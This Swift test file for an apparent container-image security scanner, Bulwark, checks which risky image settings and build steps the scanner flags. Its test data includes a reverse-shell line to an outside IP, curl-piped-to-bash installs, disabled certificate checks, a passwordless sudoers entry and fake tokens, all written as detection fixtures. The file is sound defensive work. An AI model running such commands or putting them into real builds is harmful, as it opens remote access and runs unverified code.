// Copyright (c) the Bulwark authors. SPDX-License-Identifier: Apache-2.0
import Findings
import Secrets
import Testing

@testable import ImageScanning
@testable import OCI

@Suite struct ImageConfigurationCheckTests {
    static let secrets = Result { () throws(SecretError) in try SecretScanner.standard() }

    private static func judge(
        _ reference: String = "r.test/app:1.2", _ change: (inout ImageConfiguration) -> Void
    ) throws -> [ImageCheckResult] {
        var configuration = ImageConfiguration()
        configuration.user = "1000"
        configuration.healthcheck = ["CMD", "true"]
        configuration.history = [.init()]
        change(&configuration)
        return ImageConfigurationChecks.judge(configuration, reference: reference, secrets: try secrets.get())
    }

    private static func ids(_ results: [ImageCheckResult]) -> [String] { results.map(\.check.id).sorted() }

    @Test func aCarefulImageHasNoProblem() throws {
        let results = try Self.judge { configuration in
            configuration.environment = [
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG=C.UTF-8",
                "PYTHON_VERSION=3.12.1",
                "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305", "DB_PASSWORD_FILE=/run/secrets/db",
                "TOKEN_TTL=3600",
            ]
            configuration.labels = ["org.opencontainers.image.base.name": "docker.io/library/debian:12.5"]
            configuration.history = [
                "/bin/sh -c #(nop) ADD file:2a5c8a8f4c1f in / ",
                "RUN /bin/sh -c apt-get update && apt-get install -y ca-certificates && rm -rf /var/lib/apt/lists/* # buildkit",
                "COPY --chown=1000:1000 app /app # buildkit",
                "RUN /bin/sh -c chmod 755 /app/run && chmod +x /app/x # buildkit",
                "RUN /bin/sh -c curl -fsSL -o x.tgz https://x.test/x.tgz && echo \"ab  x.tgz\" | sha256sum -c - # buildkit",
                "/bin/sh -c #(nop)  CMD [\"/app/run\"]",
            ].map { .init(createdBy: $0) }
            configuration.entrypoint = ["/app/run"]
            configuration.exposedPorts = ["8080/tcp"]
            configuration.volumes = ["/data"]
        }
        #expect(Self.ids(results) == [])
    }

    @Test(arguments: [
        ("", true), ("root", true), ("0", true), ("0:0", true), ("root:app", true), ("app", false), ("1000:0", false),
    ])
    func rootIsSeen(_ user: String, _ isRoot: Bool) throws {
        #expect(Self.ids(try Self.judge { $0.user = user }) == (isRoot ? ["BW-IMG-101"] : []))
    }

    @Test(arguments: [
        ("app", true), ("app:latest", true), ("r.test:5000/app", true), ("r.test:5000/app:1", false),
        ("app@sha256:00", false), ("", false), ("/tmp/app.tar", false), ("./app.tar", false),
    ]) func movingTagsAreSeen(_ reference: String, _ isMoving: Bool) throws {
        #expect(Self.ids(try Self.judge(reference) { _ in }) == (isMoving ? ["BW-IMG-107"] : []))
    }

    static let steps: [(id: String, text: String)] = [
        ("BW-IMG-102", "ADD https://x.test/a.tgz /a # buildkit"),
        ("BW-IMG-104", "RUN |1 NPM_TOKEN=npm_aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY" + "2z4A /bin/sh -c npm ci # buildkit"),
        ("BW-IMG-104", "ENV DB_PASSWORD=hunter"),
        ("BW-IMG-104", "|1 API_TOKEN=abcd /bin/sh -c make"),
        ("BW-IMG-108", "/bin/sh -c curl -fsSL https://x.test/install.sh | bash"),
        ("BW-IMG-108", "RUN /bin/sh -c wget -qO- https://x.test/i | sudo -E sh -"),
        ("BW-IMG-108", "RUN bash <(curl -s https://x.test/i)"),
        ("BW-IMG-108", "RUN sh -c \"$(curl -s https://x.test/i)\""),
        ("BW-IMG-111", "RUN apk add --no-cache bash sudo curl"),
        ("BW-IMG-112", "RUN chmod -R 777 /app"), ("BW-IMG-112", "RUN chmod 0666 /etc/x"),
        ("BW-IMG-112", "RUN chmod a+rwx /app"),
        ("BW-IMG-113", "RUN apt-get update && apt-get install -y nginx"),
        ("BW-IMG-114", "RUN chmod u+s /usr/local/bin/x"), ("BW-IMG-114", "RUN chmod 4755 /usr/local/bin/x"),
        ("BW-IMG-115", "RUN echo 'root:Docker!' | chpasswd"), ("BW-IMG-115", "RUN useradd -m -p secret app"),
        ("BW-IMG-116", "RUN echo 'app ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"),
        ("BW-IMG-118", "RUN curl -k https://x.test/a -o a"),
        ("BW-IMG-118", "RUN wget --no-check-certificate https://x.test/a"),
        ("BW-IMG-118", "RUN pip install --trusted-host x.test a"),
        ("BW-IMG-118", "RUN apk add --no-cache --allow-untrusted a.apk"),
        ("BW-IMG-119", "/bin/sh -c apt-get update"), ("BW-IMG-119", "RUN /bin/sh -c apt-get -y update # buildkit"),
        ("BW-IMG-120", "RUN apk add --no-cache curl nmap"),
        ("BW-IMG-008", "RUN bash -i >& /dev" + "/tcp/203.0.113.7/4444 0>&1"),
    ]

    @Test(arguments: steps.indices) func stepsAreJudged(_ index: Int) throws {
        let (id, text) = Self.steps[index]
        let results = try Self.judge { $0.history = [.init(), .init(createdBy: text)] }
        let found = results.filter { $0.check.id == id }
        #expect(found.count == 1 && found.first?.path == "history[1]", "\(text): \(Self.ids(results))")
    }

    @Test func secretsAreFoundAndMasked() throws {
        let token = "ghp_" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY2z4A"
        let results = try Self.judge { configuration in
            configuration.environment = [
                "GITHUB_TOKEN=\(token)", "ADMIN_PASSWORD=letmein", "PASSWORD=", "SECRET_FILE=/x",
            ]
            configuration.labels = ["ci": "token \(token)"]
            configuration.history = [
                .init(createdBy: "RUN git clone https://\(token)@github.com/x/y && curl -k https://\(token)/ -o x")
            ]
        }
        #expect(Self.ids(results) == ["BW-IMG-103", "BW-IMG-103", "BW-IMG-104", "BW-IMG-105", "BW-IMG-118"])
        #expect(results.filter { $0.check.id == "BW-IMG-103" }.map(\.outcome) == [.fail, .warn])
        for result in results {
            #expect(
                !result.value.contains(token) && !result.message.contains(token) && !result.value.contains("letmein"))
        }
    }

    @Test func theRestIsJudged() throws {
        let results = try Self.judge { configuration in
            configuration.exposedPorts = ["22/tcp"]
            configuration.volumes = ["/var/run/docker.sock", "/etc/"]
            configuration.healthcheck = []
            configuration.environment = ["LD_PRELOAD=/x.so", "PATH=/tmp/bin:/bin", "NODE_TLS_REJECT_UNAUTHORIZED=0"]
            configuration.labels = ["org.opencontainers.image.base.name": "debian"]
            configuration.entrypoint = ["/tmp/start"]
            configuration.command = ["/usr/sbin/sshd", "-D"]
            configuration.history = []
        }
        let expected = [100, 106, 109, 110, 117, 118, 121, 121, 122, 123, 124].map { "BW-IMG-\($0)" }
        #expect(Self.ids(results) == expected)
    }

    @Test func checksHoldTogether() {
        let all = ImageConfigurationChecks.all + ImageBehaviour.all
        #expect(Set(all.map(\.id)).count == all.count && Set(all.map(\.slug)).count == all.count)
        for check in all { #expect(!check.why.isEmpty && !check.remediation.isEmpty) }
        let patterns = ImageSteps.patterns + [ImageBehaviour.shellToElsewhere, ImageBehaviour.fetchesAndRuns]
        for pattern in patterns + [ImageSecrets.names, ImageSecrets.harmless] { #expect(pattern.pattern != nil) }
    }

    @Test func longStepsEnd() throws {
        let start = ContinuousClock.now
        for text in ["curl x ", "apt-get install ", "chmod 7", "echo a:b |", "sudoers NOPASSWD", "ARG token=a "] {
            _ = try Self.judge { configuration in
                configuration.history = [.init(createdBy: String(repeating: text, count: 200_000))]
            }
        }
        #expect(start.duration(to: .now) < .seconds(30))
    }
}
